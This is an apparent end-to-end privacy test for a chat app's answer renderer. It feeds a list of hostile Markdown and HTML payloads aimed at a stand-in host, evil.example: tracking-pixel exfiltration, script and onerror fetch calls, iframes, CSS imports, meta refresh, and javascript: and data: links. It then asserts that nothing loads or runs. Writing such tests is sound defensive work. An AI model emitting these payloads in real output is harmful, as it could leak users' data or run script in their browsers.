// e2e/privacy.test.ts - Whatever an answer contains, the window asks nobody but Hearth for anything.
import { expect } from 'vitest'
import { addChat } from './harness/prepare-data.ts'
import { test } from './harness/test.ts'

/** Every way known to us in which Markdown or HTML can make a browser fetch something, or run something. */
const hostile = [
  '![a picture](https://evil.example/pixel.png?said=secret)',
  '![reference][ref]',
  '[ref]: https://evil.example/reference.png',
  '<img src="https://evil.example/html.png" onerror="fetch(\'https://evil.example/onerror\')">',
  '<script>fetch("https://evil.example/script")</script>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/background.png) }</style>',
  '<video poster="https://evil.example/poster.png" src="https://evil.example/video.mp4" autoplay></video>',
  '<svg><image href="https://evil.example/svg.png"/><use href="https://evil.example/use.svg#a"/></svg>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/"><form action="https://evil.example/form"><input name="a"></form>',
  '[click](javascript:fetch(%22https://evil.example/javascript%22)) [data](data:text/html,<script>alert(1)</script>)',
  '[link](https://evil.example/link?said=secret)',
  '```html\n<img src="https://evil.example/code.png">\n```',
  '```svg\n<svg onload="fetch(\'https://evil.example/onload\')"></svg>\n```',
  '| a | b |\n|---|---|\n| ![x](https://evil.example/cell.png) | <img src=https://evil.example/cell2.png> |',
  'https://evil.example/bare <https://evil.example/angle>',
].join('\n\n')

test('a hostile answer is shown as text: nothing is loaded, nothing runs, and a link only shows its address', async ({ open }) => {
  const { page, window, log } = await open({ prepare: (storage) => addChat(storage, 'Hostile', [{ question: 'Show me', answer: hostile }]) })
  await page.getByRole('link', { name: 'Hostile' }).click()
  await window.lastAnswer.getByText('Picture not loaded: a picture').waitFor()
  await window.lastAnswer.getByRole('button', { name: 'link', exact: true }).click()
  await page.getByRole('dialog').getByText('https://evil.example/link?said=secret').waitFor()

  const address = page.url()
  const own = new URL(address)
  expect(log.requests.filter((url) => !isOwn(url, own))).toEqual([])
  expect(await page.evaluate(() => document.querySelectorAll('main iframe, main script, main object, main embed, main img, main form[action]').length)).toBe(0)
  expect(page.url()).toBe(address)
})

const isOwn = (url: string, own: URL): boolean => {
  const { protocol, host } = new URL(url)
  return protocol === 'data:' || protocol === 'blob:' || host === own.host
}
